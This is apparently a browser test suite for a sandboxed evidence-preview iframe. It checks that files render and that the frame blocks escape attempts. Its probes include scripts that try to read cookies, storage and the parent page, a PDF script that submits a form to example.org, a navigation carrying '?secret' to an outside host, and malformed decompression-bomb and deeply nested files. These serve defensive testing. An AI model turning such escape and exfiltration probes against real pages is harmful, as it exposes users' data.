"""The viewing frame in a real browser: it shows what it should, refuses what it should, and reaches nothing."""

import base64
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Frame, Page, Route, expect

from kernel.web import POLICY, TRUSTED_TYPES
from tests.casework import evidence
from tests.casework.test_browser_case import Served, served

__all__ = ["served"]

HOST = '<!DOCTYPE html><html lang="id"><meta charset="utf-8"><title>Perkara</title>'
# What the case page does, without a case: a frame, its greeting, and what it answers.
SHOW = """async ([address, name, type, content]) => {
  document.querySelector("iframe")?.remove();
  const frame = document.createElement("iframe");
  frame.style.cssText = "inline-size: 900px; block-size: 700px";
  frame.src = address;
  const said = [];
  window.said = said;
  return await new Promise((resolve) => {
    addEventListener("message", ({ source, origin, data }) => {
      if (source !== frame.contentWindow) return;
      said.push({ origin, ...data });
      if (data.kentongan === "ready") {
        const bytes = Uint8Array.from(atob(content), (sign) => sign.charCodeAt(0)).buffer;
        frame.contentWindow.postMessage({ kentongan: "show", name, type, bytes }, "*", [bytes]);
      } else resolve(data);
    });
    document.body.append(frame);
  });
}"""
WALLS = """async () => {
  const said = {};
  const tried = {
    parent: () => parent.document.title,
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    session: () => sessionStorage.length,
    base: () => indexedDB.open("x"),
    fetched: () => fetch(location.href),
    foreign: () => fetch("https://example.org/", { mode: "no-cors" }),
    socket: () => new Promise((made, failed) => {
      const socket = new WebSocket(location.origin.replace("http", "ws"));
      [socket.onopen, socket.onerror] = [made, failed];
    }),
    picture: () => new Promise((made, failed) => {
      const picture = new Image();
      [picture.onload, picture.onerror] = [made, failed];
      picture.src = "/static/x.png";
    }),
    evaluated: () => (0, eval)("1"),
    made: () => new Function("return 1")(),
    worker: () => new Worker(URL.createObjectURL(new Blob([""]))),
    module: () => import("/installation.js"),
    inline: () => { document.body.innerHTML = "<p>x</p>"; },
    assembled: () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)),
    window: () => { if (window.open("/") === null) throw new Error("refused"); },
    top: () => { top.location.href = "/keluar"; },
  };
  for (const [name, attempt] of Object.entries(tried)) {
    try {
      await attempt();
      said[name] = "went through";
    } catch {
      said[name] = "refused";
    }
  }
  return said;
}"""
INK = """() => {
  const canvas = document.querySelector("#paper canvas");
  const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
  let dark = 0;
  for (let at = 0; at < data.length; at += 4) if (data[at] + data[at + 1] + data[at + 2] < 200) dark += 1;
  return dark;
}"""


def host(route: Route) -> None:
    """Stand in for the case page: its policy, and nothing on it."""
    parts = POLICY | TRUSTED_TYPES | {"frame-src": "'self'"}
    policy = "; ".join(f"{name} {value}" for name, value in parts.items())
    headers = {"Content-Security-Policy": policy, "Content-Type": "text/html; charset=utf-8"}
    route.fulfill(body=HOST, headers=headers)


@pytest.fixture(scope="module")
def desk(served: Served, browser: Browser) -> Iterator[Page]:
    """The lead's window, on a page that may hold the frame; it keeps what the console says."""
    context = served.context(browser, "lead", viewport={"width": 1000, "height": 800})
    page = context.new_page()
    page.route("**/petugas/coba", host)
    page.goto("/petugas/coba")
    yield page
    context.close()


@pytest.fixture
def complaints(desk: Page) -> Iterator[list[str]]:
    """What the browser refused meanwhile, and what a file tried to ask."""
    said: list[str] = []

    def keep(message: ConsoleMessage) -> None:
        said.extend([message.text] if message.type == "error" else [])

    desk.on("console", keep)
    yield said
    desk.remove_listener("console", keep)


def show(page: Page, content: bytes, kind: str, name: str = "berkas") -> dict[str, str]:
    address = "/petugas/pratinjau" + ("?dokumen" if kind == "application/pdf" else "")
    told = page.evaluate(SHOW, [address, name, kind, base64.b64encode(content).decode()])
    return dict(told)


def inside(page: Page) -> Frame:
    return page.frames[-1]


def test_a_picture_is_shown_by_its_name_and_can_be_enlarged(desk: Page, complaints: list[str]) -> None:
    for kind in ("PNG", "JPEG", "GIF", "WEBP"):
        told = show(desk, evidence.picture(kind), f"image/{kind.lower()}", "papan tarif")
        assert told == {"kentongan": "shown", "kind": "picture"}
    frame = inside(desk)
    shown = frame.get_by_role("img", name="papan tarif")
    expect(shown).to_be_visible()
    wide = shown.evaluate("picture => picture.getBoundingClientRect().width")
    frame.get_by_role("button", name="Perbesar").click()
    assert shown.evaluate("picture => picture.getBoundingClientRect().width") == wide * 1.5
    assert complaints == []


def test_a_paper_is_drawn_and_its_pages_are_turned_by_buttons_and_keys(desk: Page, complaints: list[str]) -> None:
    assert show(desk, evidence.paper(), "application/pdf") == {"kentongan": "shown", "kind": "paper"}
    frame = inside(desk)
    expect(frame.locator("#place")).to_have_text("Halaman 1 dari 2")
    assert frame.evaluate(INK) > 500
    assert frame.locator("#page-text").text_content() == "Kuitansi Rp150.000"
    frame.get_by_role("button", name="Berikutnya").click()
    expect(frame.locator("#page-text")).to_have_text("Lampiran", use_inner_text=False)
    expect(frame.get_by_role("img", name="Halaman 2 dari 2")).to_be_visible()
    frame.locator("#next").press("ArrowLeft")
    expect(frame.locator("#place")).to_have_text("Halaman 1 dari 2")
    wide = "() => document.querySelector('#paper canvas').getBoundingClientRect().width"
    before = frame.evaluate(wide)
    frame.get_by_role("button", name="Perbesar").click()
    expect(frame.locator("#zoom")).to_have_text("150%")
    frame.wait_for_function(f"before => ({wide})() > before * 1.4", arg=before)
    assert complaints == []


def test_a_scanned_paper_is_drawn_without_webassembly(desk: Page, complaints: list[str]) -> None:
    assert show(desk, evidence.scan(), "application/pdf")["kentongan"] == "shown"
    assert inside(desk).evaluate(INK) > 500
    assert complaints == []


def test_a_sound_can_be_played(desk: Page, complaints: list[str]) -> None:
    assert show(desk, evidence.sound(), "audio/wav", "rekaman") == {"kentongan": "shown", "kind": "sound"}
    player = inside(desk).locator("audio")
    expect(player).to_be_visible()
    assert player.evaluate("player => [player.controls, Math.round(player.duration * 10)]") == [True, 5]
    player.evaluate("player => player.play()")
    assert complaints == []


def test_a_film_is_shown_and_can_be_played(desk: Page, complaints: list[str]) -> None:
    assert show(desk, evidence.film(desk), "video/webm;codecs=vp8") == {"kentongan": "shown", "kind": "film"}
    player = inside(desk).locator("video")
    expect(player).to_be_visible()
    assert player.evaluate("player => [player.controls, player.videoWidth, player.videoHeight]") == [True, 64, 48]
    player.evaluate("player => player.play()")
    assert complaints == []


def test_text_is_shown_as_text_also_where_it_is_markup(desk: Page, complaints: list[str]) -> None:
    assert show(desk, "Rp150.000 — lunas\n".encode(), "text/plain")["kentongan"] == "shown"
    expect(inside(desk).locator("#text")).to_have_text("Rp150.000 — lunas")
    assert show(desk, evidence.MARKUP, "text/plain")["kentongan"] == "shown"
    assert inside(desk).locator("#text").evaluate("shown => shown.childElementCount") == 0
    assert show(desk, b"a" * 2_000_000, "text/plain")["kentongan"] == "shown"
    assert inside(desk).locator("#text").evaluate("shown => shown.textContent.length") == 256 * 1024
    expect(inside(desk).locator("#more-text")).to_be_visible()
    expect(inside(desk).locator("#more-marks")).to_be_hidden()
    assert complaints == []


def test_marks_heaped_on_a_letter_do_not_hold_up_the_frame(desk: Page) -> None:
    heap = "\u0301" * 100_000
    assert show(desk, f"e{heap}\nakhir".encode(), "text/plain")["kentongan"] == "shown"
    assert inside(desk).locator("#text").evaluate("shown => shown.textContent") == "e" + "\u0301" * 8 + "\nakhir"
    expect(inside(desk).locator("#more-marks")).to_be_visible()
    # What a script does write on one letter stays as it is.
    assert show(desk, "ấ\u0323 \u0e01\u0e49".encode(), "text/plain")["kentongan"] == "shown"
    expect(inside(desk).locator("#more-marks")).to_be_hidden()


@pytest.mark.parametrize(
    ("content", "kind", "trouble"),
    [
        (evidence.MARKUP, "image/png", "other"),
        (evidence.MARKUP, "application/pdf", "other"),
        (b"\x89PNG\r\n\x1a\n" + evidence.MARKUP, "image/png", "broken"),
        (evidence.DRAWING, "image/svg+xml", "unknown"),
        (evidence.DRAWING, "image/png", "other"),
        (evidence.MARKUP, "text/html", "unknown"),
        (b"<?xml version='1.0'?><a/>", "application/xml", "unknown"),
        (b"PK\3\4", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "unknown"),
        (b"MZ\0\0", "text/plain", "other"),
        (b"", "image/png", "other"),
        (b"%PDF-1.7 " + bytes(100), "application/pdf", "broken"),
        (evidence.sound()[:20], "audio/wav", "broken"),
    ],
)  # fmt: skip
def test_what_is_not_what_it_is_called_is_not_shown(desk: Page, content: bytes, kind: str, trouble: str) -> None:
    assert show(desk, content, kind) == {"kentongan": "unshown", "trouble": trouble}
    frame = inside(desk)
    expect(frame.locator(f"[data-trouble={trouble}]")).to_be_visible()
    assert frame.locator("[data-shows]:visible").count() == 0
    assert [each["kentongan"] for each in desk.evaluate("said")] == ["ready", "unshown"]


def test_a_flood_of_pixels_is_not_drawn(desk: Page) -> None:
    content = evidence.flood()
    assert len(content) < 100_000
    assert show(desk, content, "image/png") == {"kentongan": "unshown", "trouble": "large"}
    assert inside(desk).locator("img").count() == 0


ODD = {
    "a thread": (evidence.odd_paper(box="0 0 1 1000000"), "shown"),
    "a field": (evidence.odd_paper(box="0 0 1000000000 1000000000"), "shown"),
    "nothing": (evidence.odd_paper(box="0 0 0 0"), "shown"),
    "its own page": (evidence.odd_paper(kids="[2 0 R]"), "unshown"),
    "no page": (evidence.odd_paper(kids="[]"), "unshown"),
    "deep": (evidence.odd_paper(root=b"/X " + b"<< /A " * 300_000 + b"1" + b" >>" * 300_000), "unshown"),
}


@pytest.mark.parametrize("name", ODD)
def test_a_paper_that_no_program_writes_is_shown_or_called_broken(desk: Page, name: str) -> None:
    content, end = ODD[name]
    assert show(desk, content, "application/pdf")["kentongan"] == end


def test_a_paper_that_takes_for_ever_holds_up_its_own_frame_alone(desk: Page) -> None:
    """Whoever opened it can close it, and look at something else."""
    given = ["/petugas/pratinjau?dokumen", "x", "application/pdf", base64.b64encode(evidence.endless()).decode()]
    desk.evaluate(f"(given) => void ({SHOW})(given)", given)
    desk.wait_for_function("() => said.length === 1")
    # The page goes on all the while.
    desk.evaluate("() => { window.turns = 0; window.turning = setInterval(() => (turns += 1), 50); }")
    desk.wait_for_function("() => turns > 60")
    assert [each["kentongan"] for each in desk.evaluate("said")] == ["ready"], "this paper is too quick for the test"
    desk.evaluate("() => clearInterval(turning)")
    assert show(desk, evidence.picture(), "image/png")["kentongan"] == "shown"


def test_the_script_of_a_paper_does_not_run(desk: Page, complaints: list[str]) -> None:
    asked: list[str] = []
    desk.context.on("request", lambda request: asked.append(request.url))
    script = "app.alert('x'); this.submitForm('https://example.org/'); app.launchURL('https://example.org/');"
    assert show(desk, evidence.paper(script=script), "application/pdf")["kentongan"] == "shown"
    assert [url for url in asked if "example.org" in url] == [] and complaints == []
    assert {each["kentongan"] for each in desk.evaluate("said")} == {"ready", "shown"}


def test_the_frame_reaches_no_page_no_network_no_cookie_and_no_storage(
    desk: Page, caplog: pytest.LogCaptureFixture
) -> None:
    show(desk, evidence.picture(), "image/png")
    caplog.clear()
    # It says that it is on its way whether or not it is.
    inside(desk).evaluate("() => navigator.sendBeacon(`${location.origin}/suar`, 'x')")
    told: dict[str, Any] = inside(desk).evaluate(WALLS)
    # What went out is the script it asked us for, which then is not run: the origin it is asked for has none here.
    answered = {message.split('"')[1] for message in caplog.messages if '"' in message}
    assert answered == {"GET /installation.js HTTP/1.1"}
    assert {name for name, came in told.items() if came != "refused"} == set()
    assert {each["origin"] for each in desk.evaluate("said")} == {"null"}
    assert desk.url.endswith("/petugas/coba")
    # It may go elsewhere by itself, but the page around it lets it: nowhere but to us.
    inside(desk).evaluate("() => { location.href = 'https://example.org/?secret'; }")
    desk.wait_for_function("!document.querySelector('iframe').contentWindow.length")
    assert not any("example.org" in frame.url for frame in desk.frames)


def test_the_frame_takes_one_file_and_from_the_page_around_it_alone(desk: Page) -> None:
    show(desk, evidence.picture(), "image/png", "yang pertama")
    message = "{ kentongan: 'show', name: 'lain', type: 'text/plain', bytes: new ArrayBuffer(4) }"
    desk.evaluate(f"() => document.querySelector('iframe').contentWindow.postMessage({message}, '*')")
    expect(inside(desk).get_by_role("img", name="yang pertama")).to_be_visible()
    # A frame that has not been given its file yet, spoken to by itself, by another window, and in other words.
    desk.goto("/petugas/coba")
    desk.evaluate("""async () => {
      const frame = document.createElement("iframe");
      frame.src = "/petugas/pratinjau";
      document.body.append(frame);
      await new Promise((ready) => addEventListener("message", ready, { once: true }));
    }""")
    frame = inside(desk)
    frame.evaluate(f"() => postMessage({message}, '*')")
    odd = ["null", "5", "'x'", "{}", "{ kentongan: 'show', name: 1, type: 'text/plain', bytes: new ArrayBuffer(4) }",
           "{ kentongan: 'show', name: 'x', type: 'text/plain', bytes: 'x' }"]  # fmt: skip
    for each in odd:
        desk.evaluate(f"() => document.querySelector('iframe').contentWindow.postMessage({each}, '*')")
    desk.evaluate("""() => {
      const other = document.createElement("iframe");
      other.src = "/petugas/pratinjau?lain";
      document.body.append(other);
      return new Promise((loaded) => other.addEventListener("load", loaded));
    }""")
    desk.frames[-1].evaluate(f"() => parent.frames[0].postMessage({message}, '*')")
    # One of our own origin, and still not the page around it.
    desk.evaluate("() => { document.body.append(document.createElement('iframe')); }")
    desk.frames[-1].evaluate(f"() => parent.frames[0].postMessage({message}, '*')")
    # Whatever had been taken would have been shown before this, which is.
    desk.evaluate(
        "() => document.querySelector('iframe').contentWindow.postMessage("
        "{ kentongan: 'show', name: 'x', type: 'text/plain', bytes: new Uint8Array([111, 107]).buffer }, '*')"
    )
    expect(frame.locator("#text")).to_have_text("ok")


def test_escape_asks_the_page_to_take_the_frame_away(desk: Page) -> None:
    show(desk, evidence.picture(), "image/png")
    inside(desk).locator("#larger").press("Escape")
    desk.wait_for_function("said.at(-1).kentongan === 'leave'")
